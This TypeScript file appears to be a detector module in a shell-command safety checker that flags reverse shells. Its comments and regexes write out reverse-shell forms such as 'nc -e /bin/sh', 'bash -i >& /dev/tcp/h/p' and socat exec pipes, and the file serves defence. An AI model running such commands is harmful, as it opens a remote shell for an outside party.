// Reverse shells: a shell wired to a socket.
import { programName } from "../../../engine/shell/runners";
import { flowOf, SHELL_PATH } from "./exfil";
import { interpreterScript } from "./interp";
import { texts } from "./paths";
import type { Check, CheckSpec } from "./types";
import { CHECK_WORDS } from "./words";

/** A one-liner that opens a socket and wires a shell to it (python / perl / ruby / php / node reverse shells). */
const SCRIPT_SOCKET = /socket\s*[.(]|TCPSocket|fsockopen|IO::Socket|net\.connect|net\.Socket|Socket::INET/;
const SCRIPT_SHELL = /['"](?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k)?sh(?=['"\s])|pty\.spawn|cmd(?:\.exe)?['"]/;
/** …with the shell's stdio on the socket: dup2, pty.spawn, stdin=s.fileno(), .pipe(, open(STDIN, ">&S"), <&3. */
const SCRIPT_WIRE = /dup2|pty\.spawn|fileno\(\)|\.pipe\(|[<>]&\s*%?\w|STDIN/;

/** A shell handed to a network peer: nc -e /bin/sh, bash -i >& /dev/tcp/h/p, socat exec:bash tcp:…, nc h p | sh */
const reverseShell: Check = (c, scope) => {
  const prog = programName(c.words[0]);
  const w = texts(c);
  const script = interpreterScript(c);
  if (script !== undefined) return SCRIPT_SOCKET.test(script) && SCRIPT_SHELL.test(script) && SCRIPT_WIRE.test(script);
  if (/^(?:nc|ncat|netcat|telnet)$/.test(prog) || (prog === "openssl" && w[1] === "s_client")) {
    if (w.some((t, i) => /^-\w*[ec]$/.test(t) && SHELL_PATH.test(w[i + 1] ?? ""))) return true;
    // a network client and a shell reading its stdin in one pipeline: `cat f | sh -i 2>&1 | nc h p > f`
    return (scope.flow ??= flowOf(scope)).shellPipes.has(c.pipeline);
  }
  if (prog === "socat") return w.some((t) => /^(?:exec|system):/i.test(t) && /(?:ba|z)?sh\b/.test(t)) && w.some((t) => /^(?:tcp|ssl|openssl)[\w-]*:/i.test(t));
  const tcp = c.redirects.some((r) => /^\/dev\/(?:tcp|udp)\//.test(r.target.text));
  // exec 196<>/dev/tcp/h/p; sh <&196 >&196 2>&196
  if (!tcp && SHELL_PATH.test(prog) && c.redirects.some((r) => r.op === "<&" || r.op === "<")) {
    const fds = new Set<string>();
    for (const x of scope.cmds)
      for (const r of x.redirects) if (r.fd !== null && r.fd > 2 && /^\/dev\/(?:tcp|udp)\//.test(r.target.text)) fds.add(String(r.fd));
    if (fds.size && c.redirects.some((r) => (r.op === "<&" || r.op === "<") && fds.has(r.target.text.replace(/^&/, "")))) return true;
  }
  return tcp && SHELL_PATH.test(prog) && c.redirects.some((r) => r.op === ">&" || r.op === "&>" || r.op === "<" || r.op === "<&" || r.op === "<>");
};

export const CHECKS = [{ name: "reverse-shell", ...CHECK_WORDS["reverse-shell"], check: reverseShell }] as const satisfies readonly CheckSpec[];
